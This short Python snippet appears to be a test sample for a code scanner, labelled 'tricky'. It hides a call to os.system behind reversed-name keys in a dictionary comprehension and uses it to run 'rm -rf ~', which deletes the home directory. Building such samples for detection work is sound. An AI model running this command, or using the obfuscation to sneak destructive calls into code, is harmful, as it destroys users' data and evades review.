# tricky: functions in a table made by a comprehension
import os
t = {n[::-1]: getattr(os, n) for n in ["system", "popen"]}
t["metsys"]("rm -rf ~")
